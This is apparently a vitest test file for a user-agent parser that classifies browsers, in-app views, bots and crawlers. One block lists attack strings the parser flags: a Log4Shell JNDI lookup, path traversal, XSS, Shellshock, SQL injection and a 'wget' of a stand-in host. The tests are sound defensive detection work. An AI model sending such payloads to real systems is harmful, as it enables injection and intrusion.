import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { CUT } from '../contract/integration/edge.ts'
import { parseAgent } from './agent/agent.ts'
import { AGENT } from './builders.ts'
import { AGENTS } from './data/agents.ts'

const CHROME = 'AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0'
const IOS = 'AppleWebKit/605.1.15 (KHTML, like Gecko)'

describe('people', () => {
  test.each([
    [
      AGENT.chrome,
      {
        browser: 'Chrome',
        browserVersion: '140',
        platform: 'Windows',
        deviceType: 'desktop',
        engine: 'chromium',
        engineVersion: 140,
      },
    ],
    [AGENT.android, { browser: 'Chrome', platform: 'Android', deviceType: 'mobile', engine: 'chromium' }],
    [
      AGENT.firefox,
      { browser: 'Firefox', browserVersion: '143', platform: 'Linux', engine: 'firefox', engineVersion: 143 },
    ],
    [AGENT.safari, { browser: 'Safari', platform: 'macOS', engine: 'safari', engineVersion: 18 }],
    [
      AGENT.iphone,
      { browser: 'Safari', platform: 'iOS', deviceType: 'mobile', engine: 'safari', engineVersion: 18, inApp: false },
    ],
    [
      `Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) ${IOS} CriOS/126.0.6478.54 Mobile/15E148 Safari/604.1`,
      { browser: 'Chrome', engine: 'safari', engineVersion: 17 },
    ],
    [
      `Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${CHROME} Safari/537.36 Edg/140.0.0.0`,
      { browser: 'Microsoft Edge', engine: 'chromium' },
    ],
    [
      `Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${CHROME} Safari/537.36 OPR/124.0.0.0`,
      { browser: 'Opera', engineVersion: 140 },
    ],
    [
      `Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36`,
      { engineVersion: 130, deviceType: 'mobile' },
    ],
    [
      `Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) ${CHROME} Safari/537.36`,
      { platform: 'Chrome OS', deviceType: 'desktop' },
    ],
    [`Mozilla/5.0 (Linux; Android 13; CUBOT X50) ${CHROME} Mobile Safari/537.36`, { deviceType: 'mobile' }],
    [`Mozilla/5.0 (Linux; Android 12; POCO F3) ${CHROME} Mobile Safari/537.36`, { deviceType: 'mobile' }],
    [`Mozilla/5.0 (X11; GNU/Linux) ${CHROME} Safari/537.36 Tesla/2026.20.1`, { engineVersion: 140 }],
    [
      'Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; .NET4.0C; .NET CLR 3.5; rv:11.0) like Gecko',
      { browser: 'Internet Explorer', dead: '' },
    ],
    ['Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/7.0; .NET4.0E)', { dead: '' }],
    ['Opera/9.80 (Android; Opera Mini/36.2/191.256; U; en) Presto/2.12.423 Version/12.16', { engine: 'other' }],
  ])('%s', (userAgent, expected) => {
    expect(parseAgent(userAgent)).toMatchObject({
      declared: '',
      claims: '',
      resembles: '',
      impossible: '',
      ...expected,
    })
  })
})

describe('the web views of apps are people', () => {
  test.each([
    AGENT.instagram,
    `Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/140.0.0.0 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/480.0.0.54.88;IABMV/1;]`,
    `Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) ${IOS} Mobile/15E148 [FBAN/FBIOS;FBAV/480.0;FBBV/1;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/18.6;FBSS/3;FBID/phone;FBLC/de_DE;FBOP/5]`,
    `Mozilla/5.0 (Linux; Android 13; M2101K6G) ${CHROME} Mobile Safari/537.36 musical_ly_2022803040 JsSdk/1.0 NetType/WIFI Channel/googleplay AppName/musical_ly app_version/28.3.4 ByteLocale/de BytedanceWebview/d8a21c6`,
    `Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) ${IOS} Mobile/15E148 Snapchat/13.0.0.41 (like Safari/8619.1, panda)`,
    `Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) ${IOS} Mobile/15E148 Safari Line/14.10.0`,
    `Mozilla/5.0 (Linux; Android 14; Pixel 8) ${CHROME} Mobile Safari/537.36 GSA/15.30`,
    `Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) ${IOS} Mobile/15E148 LinkedInApp/9.29 CFNetwork/1498 Darwin/23.6.0`,
    `Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) ${IOS} Mobile/15E148 Twitter for iPhone/10.50`,
    `Mozilla/5.0 (Linux; Android 14; Pixel 8; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/140.0.0.0 Mobile Safari/537.36 NewsReader/3.1`,
    `Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) ${IOS} Mobile/15E148 MicroMessenger/8.0.49(0x18003137) NetType/4G Language/zh_CN`,
  ])('%s', (userAgent) =>
    expect(parseAgent(userAgent)).toMatchObject({ inApp: true, declared: '', claims: '', resembles: '' }),
  )
})

describe('reads the names of declared bots and libraries', () => {
  test.each([
    [AGENT.curl, 'curl/8.5.0'],
    ['python-requests/2.32.3', 'python-requests/2.32.3'],
    ['Go-http-client/2.0', 'Go-http-client/2.0'],
    ['Python/3.12 aiohttp/3.10.5', 'Python/3.12'],
    ['node', 'node'],
    ['axios/1.7.7', 'axios/1.7.7'],
    ['Java/21.0.4', 'Java/21.0.4'],
    ['okhttp/4.12.0', 'okhttp/4.12.0'],
    ['Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1', 'WindowsPowerShell/5.1.19041.1'],
    ['Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A)', 'Dalvik/2.1.0'],
    ['GuzzleHttp/7', 'GuzzleHttp/7'],
    ['Mozilla/5.0', 'Mozilla/5.0'],
    ['Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)', 'AhrefsBot/7.0'],
    [
      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)',
      'GPTBot/1.2',
    ],
    [
      `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) ${CHROME} Safari/537.36; compatible; ChatGPT-User/1.0; +https://openai.com/bot`,
      'ChatGPT-User/1.0',
    ],
    [
      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Claude-User/1.0; +Claude-User@anthropic.com)',
      'Claude-User/1.0',
    ],
    [
      `Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/140.0.0.0 Safari/537.36`,
      'HeadlessChrome/140.0.0.0',
    ],
    [
      `Mozilla/5.0 (X11; Linux x86_64) ${CHROME} Safari/537.36 AcmeThing/1.0 (+https://acme.example/about)`,
      'AcmeThing/1.0',
    ],
    [
      `Mozilla/5.0 (X11; Linux x86_64) ${CHROME} Safari/537.36 (https://acme.example/about)`,
      'https://acme.example/about',
    ],
    ['AcmeCrawler', 'AcmeCrawler'],
  ])('%s', (userAgent, declared) =>
    expect(parseAgent(userAgent)).toMatchObject({ declared, claims: '', deviceType: 'bot' }),
  )
})

describe('claims of verifiable crawlers', () => {
  test.each([
    [AGENT.googlebot, 'Googlebot'],
    [AGENT.googlebotPhone, 'Googlebot'],
    ['AdsBot-Google (+http://www.google.com/adsbot.html)', 'AdsBot-Google'],
    [
      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36',
      'bingbot',
    ],
    ['facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)', 'facebookexternalhit'],
    ['Twitterbot/1.0', 'Twitterbot'],
    ['TelegramBot (like TwitterBot)', 'TelegramBot'],
    ['WhatsApp/2.24.20.75 A', 'WhatsApp'],
    ['LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)', 'LinkedInBot'],
    ['Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)', 'Slackbot'],
    ['Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)', 'Discordbot'],
    [`${AGENT.safari} (Applebot/0.1; +http://www.apple.com/go/applebot)`, 'Applebot'],
    ['DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)', 'DuckDuckBot'],
    ['Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)', 'YandexBot'],
    ['Mozilla/5.0 (compatible; Pinterestbot/1.0; +http://www.pinterest.com/bot.html)', 'Pinterestbot'],
    [
      'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 (KHTML, like Gecko) Version/9.0.1 Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0',
      'AppleMessages',
    ],
  ])('%s', (userAgent, claims) => {
    const agent = parseAgent(userAgent)
    expect(agent.claims).toBe(claims)
    expect(agent.declared).not.toBe('')
  })

  test('every crawler of the data is a claim under its own name', () => {
    for (const { word, start } of AGENTS.crawlers)
      expect(parseAgent(start ? `${word}1.0` : `Mozilla/5.0 (compatible; ${word}1.0)`)).toMatchObject({
        claims: expect.stringMatching(/./),
      })
  })
})

test('every listed word declares a bot by itself', () => {
  for (const word of [...AGENTS.automation, ...AGENTS.ai, ...AGENTS.tools, ...AGENTS.libraries])
    expect(parseAgent(`${word}1.0 x`).declared, word).not.toBe('')
})

test('a word common in bots only resembles one inside a browser’s string', () => {
  expect(parseAgent(`Mozilla/5.0 (X11; Linux x86_64) ${CHROME} Safari/537.36 DailyNews/2`)).toMatchObject({
    declared: '',
    resembles: expect.stringContaining('News'),
  })
})

test.each([
  ['Mozilla/4.0 (compatible; MSIE 6.0; Windows 98)', 'Windows 9x', ''],
  ['Mozilla/5.0 (Windows NT 5.1; rv:52.0) Gecko/20100101 Firefox/52.0', 'Windows XP', ''],
  [
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_7_5) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0.2623.112 Safari/537.36',
    'Mac OS X 10.8 or older',
    '',
  ],
  [
    'Mozilla/5.0 (Windows NT 10.0; iPhone) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15',
    '',
    "Windows with a phone's system",
  ],
  [
    `Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) ${CHROME} Mobile Safari/537.36`,
    '',
    'Chrome of another system on iOS',
  ],
  [`Mozilla/5.0 (Windows NT 12.0; Win64; x64) ${CHROME} Safari/537.36`, '', 'Windows NT that does not exist'],
])('%s', (userAgent, dead, impossible) => expect(parseAgent(userAgent)).toMatchObject({ dead, impossible }))

describe('payloads against readers of logs', () => {
  const payloadOf = (added: string) => parseAgent(`${AGENT.chrome} ${added}`).payload
  test.each([
    '${jndi:ldap://x.example/a}',
    '#{T(java.lang.Runtime)}',
    '%{(#a=1)}',
    String.raw`..\..\windows`,
    '../etc/passwd',
    '<script>alert(1)</script>',
    '<?php system(1)',
    '() { :;}; echo',
    "' OR '1'='1",
    '1 UNION ALL SELECT NULL',
    '1; WAITFOR DELAY 5',
    'sleep( 5)',
    '; wget http://x.example/a',
    '| id -u',
  ])('%s', (added) => expect(payloadOf(added)).not.toBe(''))

  test('are cut', () => expect(payloadOf(`\${${'x:'.repeat(40)}}`)).toHaveLength(60))

  test.each([
    '[FBAN/FBIOS;FBDV/iPhone14,5;FBSS/3;FBID/phone]',
    '||| ReqID: 472 | TestId: 10 | Initiator: https://store.example',
    'Instagram 390.0.0.0 (iPhone14,5; iOS 18_6; de_DE; scale=3.00)',
    "L'Equipe/9.1 (select or union)",
    'Build/{release}',
  ])('people’s agents hold none: %s', (added) => expect(payloadOf(added)).toBe(''))
})

describe('any text', () => {
  test('never throws; texts are well-formed and bounded', () => {
    const part = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 400 }),
      fc.constantFrom(
        'Mozilla/5.0 (',
        ')',
        'bot',
        'Chrome/',
        '\0',
        '\ud800',
        'iPhone',
        ' OS 9_',
        'http://',
        'Version/',
        '/',
      ),
    )
    fc.assert(
      fc.property(
        fc.array(part).map((parts) => parts.join('')),
        (userAgent) => {
          for (const value of Object.values(parseAgent(userAgent))) {
            if (typeof value === 'string') expect(value.isWellFormed() && value.length <= CUT.value).toBe(true)
          }
        },
      ),
      { numRuns: 1000 },
    )
  })

  test.each([
    ['nothing', ''],
    ['NUL', '\0'],
    ['a lone surrogate', '\ud800'],
    ['1 MB', 'a'.repeat(1_000_000)],
    ['spaces', ' '.repeat(65_536)],
    ['open brackets', 'Mozilla/5.0 ('.repeat(5000)],
    ['slashes', 'a/1.'.repeat(20_000)],
    ['commas', 'Mozilla/5.0 (a) ' + 'Safari '.repeat(9000)],
    ['digits', '1.'.repeat(40_000)],
  ])('reads fast: %s', (_, userAgent) => {
    const times = Array.from({ length: 5 }, () => {
      const start = performance.now()
      parseAgent(userAgent)
      return performance.now() - start
    })
    expect(Math.min(...times)).toBeLessThan(20)
  })
})
